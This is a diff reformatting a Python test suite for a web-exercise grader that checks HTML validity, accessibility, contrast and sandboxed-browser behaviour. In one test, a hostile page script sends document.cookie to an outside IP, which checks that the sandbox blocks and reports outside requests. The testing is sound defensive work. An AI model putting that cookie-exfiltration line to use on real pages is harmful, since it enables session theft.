@@ -1,5 +1,6 @@
 """Web exercises (html, dom): parser checks, checks in the sandboxed Chromium, hostile pages."""
 
+import contextlib
 import dataclasses
 import socket
 import struct
@@ -8,11 +9,10 @@ from pathlib import Path
 
 import pytest
 
-from exercises import browser
+from exercises import browser, services
 from exercises.graders import grader_for, web, webstatic
 from exercises.models import Screenshot, Submission
 from exercises.spec import ExerciseError, read_exercise
-from exercises import services
 from tests.exercises.conftest import EXAMPLES, load_exercise
 
 PAGE = """<!DOCTYPE html>
@@ -73,12 +73,19 @@ def test_dom_scenarios(menu):
     assert grade(menu, dict(menu.solution)).status == "passed"
     result = grade(menu, dict(menu.starter))
     assert failures(result) == {
-        "Un clic sur « Menu » ouvre le menu": "nav#menu devrait être visible.\nUtilisez classList.toggle('ouvert') dans un écouteur de clic."
+        "Un clic sur « Menu » ouvre le menu": "nav#menu devrait être visible.\nUtilisez classList.toggle('ouvert') "
+        "dans un écouteur de clic."
     }
     # A script that opens the menu but forgets aria-expanded.
-    half = "document.querySelector('#bouton-menu').onclick = () => document.querySelector('#menu').classList.toggle('ouvert');"
+    half = (
+        "document.querySelector('#bouton-menu').onclick = () => "
+        "document.querySelector('#menu').classList.toggle('ouvert');"
+    )
     result = grade(menu, {**menu.solution, "script.js": half})
-    assert "aria-expanded de button#bouton-menu vaut « false », attendu « true »" in failures(result)["Un clic sur « Menu » ouvre le menu"]
+    assert (
+        "aria-expanded de button#bouton-menu vaut « false », attendu « true »"
+        in failures(result)["Un clic sur « Menu » ouvre le menu"]
+    )
 
 
 def test_screenshots_at_phone_and_desktop_widths(card):
@@ -86,7 +93,9 @@ def test_screenshots_at_phone_and_desktop_widths(card):
     shots = result.artefacts["screenshots"]
     assert result.status == "passed"
     assert [w for w, _png in shots] == [375, 1280]
-    assert "screenshots" not in grade(card, dict(card.solution), public_only=True, artefacts=True).artefacts  # « Vérifier »
+    assert (
+        "screenshots" not in grade(card, dict(card.solution), public_only=True, artefacts=True).artefacts
+    )  # « Vérifier »
     assert "artefacts" not in result.to_storage() and "artefacts" not in result.to_dict()
     for width, png in shots:
         assert png[:8] == b"\x89PNG\r\n\x1a\n"
@@ -108,12 +117,15 @@ def doc(html):
 
 
 def test_validity_problems_come_with_their_line():
-    html = "<html>\n<head></head>\n<body>\n<p>Un <b>gras <i>mal</b> fermé</i></p>\n<div id=a></div><div id=a></div>\n<center>x</center>\n</body></html>"
+    html = (
+        "<html>\n<head></head>\n<body>\n<p>Un <b>gras <i>mal</b> fermé</i></p>\n<div id=a></div><div "
+        "id=a></div>\n<center>x</center>\n</body></html>"
+    )
     problems = webstatic.validity_problems(doc(html))
     text = webstatic.describe(problems, limit=20)
     assert "ligne 1 : <!DOCTYPE html> manquant" in text
     assert "ligne 4 : balises mal imbriquées" in text
-    assert "ligne 5 : l'identifiant id=\"a\" est utilisé plusieurs fois" in text
+    assert 'ligne 5 : l\'identifiant id="a" est utilisé plusieurs fois' in text
     assert "ligne 6 : <center> est un élément obsolète" in text
     assert "n'a pas d'attribut lang" in text and "pas de <title>" in text
     assert webstatic.validity_problems(doc(PAGE.format(body="<p>ok</p>"))) == []
@@ -140,9 +152,11 @@ def test_accessibility_basics(body, expected):
 
 
 def test_accessible_forms_pass():
-    body = ('<form><label for="n">Nom</label><input id="n"><label>Ville <input></label>'
-            '<input aria-label="Code"><button>Envoyer</button><input type="submit"></form>'
-            '<a href="/"><img src="logo.png" alt="Accueil"></a><img src="deco.png" alt="">')
+    body = (
+        '<form><label for="n">Nom</label><input id="n"><label>Ville <input></label>'
+        '<input aria-label="Code"><button>Envoyer</button><input type="submit"></form>'
+        '<a href="/"><img src="logo.png" alt="Accueil"></a><img src="deco.png" alt="">'
+    )
     assert webstatic.accessibility_problems(doc(PAGE.format(body=body))) == []
 
 
@@ -167,7 +181,10 @@ def test_element_checks(check, ok):
 
 
 def test_invalid_checks_are_reported_with_their_line():
-    toml = '[[check]]\ntype = "element"\nname = "a"\nselector = "li"\n\n[[check]]\ntype = "colour"\nname = "b"\n\n[[check]]\ntype = "element"\nname = "c"\nselector = "li[["\n'
+    toml = (
+        '[[check]]\ntype = "element"\nname = "a"\nselector = "li"\n\n[[check]]\ntype = "colour"\nname = '
+        '"b"\n\n[[check]]\ntype = "element"\nname = "c"\nselector = "li[["\n'
+    )
     with pytest.raises(ExerciseError) as raised:
         web.read_checks(toml)
     assert raised.value.errors[0].startswith("tests/checks.toml:6: « type » doit valoir")
@@ -210,9 +227,15 @@ min = 16
 
 def test_contrast_scroll_and_numeric_style(card):
     spec = with_checks(card, STYLE_CHECKS)
-    good = {"index.html": PAGE.format(body="<p>Lisible</p>"), "style.css": "p { color: #333; background: #fff; padding: 1rem; }"}
+    good = {
+        "index.html": PAGE.format(body="<p>Lisible</p>"),
+        "style.css": "p { color: #333; background: #fff; padding: 1rem; }",
+    }
     assert grade(spec, good).status == "passed"
-    bad = {"index.html": PAGE.format(body='<p>Pâle</p><div style="width: 600px">large</div>'), "style.css": "p { color: #aaa; padding: 4px; }"}
+    bad = {
+        "index.html": PAGE.format(body='<p>Pâle</p><div style="width: 600px">large</div>'),
+        "style.css": "p { color: #aaa; padding: 4px; }",
+    }
     failed = failures(grade(spec, bad))
     assert failed["Contraste"].startswith("Contraste de p : 2.32:1, il faut au moins 4.5:1.")
     assert "À 375 px, la page défile horizontalement (608 px de large ; en cause : div)." in failed["Pas de défilement"]
@@ -257,7 +280,10 @@ def test_hostile_pages_end_with_a_clear_message_and_the_browser_recovers(quick, 
 
 
 def test_other_sites_are_blocked_and_reported(quick):
-    body = '<img src="https://example.com/pixel.png" alt=""><script>fetch("http://10.0.0.1/vol?c=" + document.cookie)</script>'
+    body = (
+        '<img src="https://example.com/pixel.png" alt=""><script>fetch("http://10.0.0.1/vol?c=" + '
+        "document.cookie)</script>"
+    )
     result = grade(quick, {"index.html": PAGE.format(body=body)})
     assert result.status == "passed"
     assert "Ressources bloquées" in result.message and "https://example.com/pixel.png" in result.message
@@ -273,10 +299,8 @@ def test_the_browser_has_no_network_even_without_interception(quick):
     accepted = []
 
     def accept():
-        try:
+        with contextlib.suppress(OSError):
             accepted.append(server.accept())
-        except OSError:
-            pass
 
     script = f"const ws = new WebSocket('ws://127.0.0.1:{port}/'); ws.onerror = () => document.title = 'refusé';"
     result = grade(quick, {"index.html": PAGE.format(body=f"<script>{script}</script>")})
@@ -340,11 +364,17 @@ def test_refused_submissions(quick, files, words):
 # ---------------------------------------------------------------- through the pipeline
 
 
-def test_graded_submission_keeps_its_screenshots_a_check_does_not(module, trainee, eager, django_capture_on_commit_callbacks):
+def test_graded_submission_keeps_its_screenshots_a_check_does_not(
+    module, trainee, eager, django_capture_on_commit_callbacks
+):
     exercise = load_exercise(module, "carte-visite")
     with django_capture_on_commit_callbacks(execute=True):
-        check = services.submission_create(exercise=exercise, learner=trainee, mode=Submission.Mode.CHECK, files=dict(exercise.solution))
-        submitted = services.submission_create(exercise=exercise, learner=trainee, mode=Submission.Mode.SUBMIT, files=dict(exercise.solution))
+        check = services.submission_create(
+            exercise=exercise, learner=trainee, mode=Submission.Mode.CHECK, files=dict(exercise.solution)
+        )
+        submitted = services.submission_create(
+            exercise=exercise, learner=trainee, mode=Submission.Mode.SUBMIT, files=dict(exercise.solution)
+        )
     check.refresh_from_db()
     submitted.refresh_from_db()
     assert (check.status, submitted.status) == ("passed", "passed")
@@ -435,7 +465,9 @@ def test_value_without_attribute_is_refused():
     ],
 )
 def test_crafted_documents_are_refused_before_parsing(card, html):
-    spec = with_checks(card, '[[check]]\ntype = "valid"\nname = "Valide"\n\n[[check]]\ntype = "accessible"\nname = "Accessible"\n')
+    spec = with_checks(
+        card, '[[check]]\ntype = "valid"\nname = "Valide"\n\n[[check]]\ntype = "accessible"\nname = "Accessible"\n'
+    )
     result = grade(spec, {"index.html": html})
     assert result.status == "failed"
     assert all("trop gros ou trop imbriqué" in t.message for t in result.tests)
@@ -444,7 +476,6 @@ def test_crafted_documents_are_refused_before_parsing(card, html):
 def test_a_parse_that_outlives_its_time_is_stopped():
     import time
 
-    with pytest.raises(webstatic.ParseTimeout):
-        with webstatic.time_limit(0.2):
-            while True:
-                time.sleep(0.01)
+    with pytest.raises(webstatic.ParseTimeout), webstatic.time_limit(0.2):
+        while True:
+            time.sleep(0.01)
